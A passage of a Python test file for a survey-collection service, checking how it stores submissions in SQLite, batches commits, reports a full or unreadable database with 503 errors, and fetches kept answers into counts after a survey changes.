    assert len(list(kept_in(database_at(tmp_path), "needs"))) == 20


def test_what_waits_is_kept_in_one_commit(tmp_path: Path) -> None:
    store = Store(database_at(tmp_path))
    store.put(submission(0)).result(10)
    commits = []
    event.listen(store.database.engine, "commit", lambda _: commits.append(1))
    futures = [store.put(submission(n)) for n in range(1, 2001)]
    assert {future.result(20).outcome for future in futures} == {Outcome.STORED}
    store.close()
    assert len(commits) < 500


def test_the_earlier_id_counts_only_since_then(tmp_path: Path) -> None:
    store = Store(database_at(tmp_path))
    store.put(submission(1)).result(10)
    name = str(uuid.UUID(int=1))
    recent, old = (
        Earlier(name, "2026-11-24T03:59:00.000Z"),
        Earlier(name, "2026-11-24T04:00:02.000Z"),
    )
    assert store.put(submission(2), recent).result(10) == Kept(Outcome.KNOWN, name)
    assert store.put(submission(2), old).result(10).outcome is Outcome.STORED
    store.close()


def test_a_full_disk_is_told_and_then_it_goes_on(live: Running) -> None:
    assert live.json("needs/chengxi", need()).status == 201
    engine = live.collector.store.database.engine
    pages = [40]

    def full(connection: Any, *_: object) -> None:
        connection.execute(f"PRAGMA max_page_count={pages[0]}").close()

    event.listen(engine, "connect", full)
    engine.dispose()
    value = need()
    kept = 0
    for _ in range(300):
        told = live.json("needs/chengxi", value)
        if told.status == 503:
            break
        kept, value = kept + 1, need("话" * 500)
    assert (told.status, told.told["error"]) == (503, "unavailable")
    assert "还没有收到" in told.told["message"]
    assert int(told.headers["retry-after"]) > 0
    page = live.form("needs/chengxi", fields("话" * 2000))
    assert (page.status, "还没有收到" in page.text) == (503, True)
    assert len(rows(live)) == kept + 1
    pages[0] = 100_000
    engine.dispose()
    assert live.json("needs/chengxi", value).status == 201
    assert len(rows(live)) == kept + 2


def test_a_file_that_was_moved_away_takes_nothing_more(live: Running) -> None:
    assert live.json("needs/chengxi", need()).status == 201
    file = live.project.private / "collector.sqlite"
    file.rename(file.with_name("away.sqlite"))
    assert live.json("needs/chengxi", need()).status == 201
    assert len(rows(live)) == 1
    assert file.stat().st_mode & 0o077 == 0


def test_two_that_begin_at_once_share_one_file(tmp_path: Path) -> None:
    stores = [Store(database_at(tmp_path)) for _ in range(4)]
    futures = [store.put(submission(number)) for number, store in enumerate(stores * 5)]
    assert {future.result(20).outcome for future in futures} == {Outcome.STORED}
    for store in stores:
        store.close()
    assert len(list(kept_in(database_at(tmp_path), "needs"))) == 20


def test_a_database_that_cannot_be_opened_is_told(sound: Watched, tmp_path: Path) -> None:
    project = Project(tmp_path)
    project.private.mkdir()
    (project.private / "collector.sqlite").write_bytes(b"no database" * 900)
    with running(project, sound) as made:
        told = made.json("needs/chengxi", need())
        assert (told.status, told.told["error"]) == (503, "unavailable")


def test_addresses_of_databases(tmp_path: Path) -> None:
    file = tmp_path / "x.sqlite"
    assert database_at(tmp_path, f"sqlite:///{file}").file == file
    assert (
        database_at(tmp_path, "postgresql://a@127.0.0.1/b").url.drivername == "postgresql+psycopg"
    )
    assert not any(tmp_path.iterdir())
    for wrong_one in ("nonsense", "mysql://a@127.0.0.1/b", "sqlite://", "sqlite:///:memory:"):
        with pytest.raises(UsageError, match=r"collector\.md"):
            database_at(tmp_path, wrong_one)


# From the form to published counts


def test_fetch_reads_what_was_kept(tmp_path: Path) -> None:
    project = town_in(tmp_path)
    watched = Watched(project)
    watched.load(checked=True)
    clock = Clock()
    with running(project, watched, clock=clock) as made:
        for number in range(30):
            clock.later(minutes=1)
            made.json("needs/chengxi", need(f"第{number}件事，很要紧"))
    (done,) = fetch(project, ["needs"], day=DAY)
    (found,) = done.changes
    assert (found.read, found.accepted, found.new) == (30, 30, 30)
    text = project.surveys.joinpath("kinds.yaml").read_text(encoding="utf-8")
    with running(project, watched, clock=clock) as made:
        for code in "abbz":
            clock.later(minutes=1)
            made.json("kinds", kinds({"one": [code], "why": "因为", "amount": "3"}, seconds=20))
    # The survey is asked anew, without an option and a question.
    text = text.replace("{code: b, label: 乙}, ", "").replace("version: 2", "version: 3")
    lines = [
        line for line in text.splitlines() if "id: why" not in line and "id: amount" not in line
    ]
    project.surveys.joinpath("kinds.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (done,) = fetch(project, ["kinds"], day=DAY)
    (found,) = done.changes
    assert (found.read, found.accepted, found.reasons["invalid-option"]) == (4, 2, 2)
    assert any("以前的版本" in note for note in found.notes)
    assert any("现在不问的题" in note for note in found.notes)


def test_fetch_of_nothing_kept_makes_no_file(tmp_path: Path) -> None:
    project = town_in(tmp_path)
    (done,) = fetch(project, ["needs"], day=DAY)
    assert [one.read for one in done.changes] == [0]
    assert not (project.private / "collector.sqlite").exists()


def test_the_prefix_is_the_path_of_the_setting() -> None:
    assert prefix_of("") == "/collect/"
    assert prefix_of("/answers/") == "/answers/"
    assert prefix_of("https://answers.example.test/") == "/"
    assert prefix_of("https://answers.example.test/in/") == "/in/"
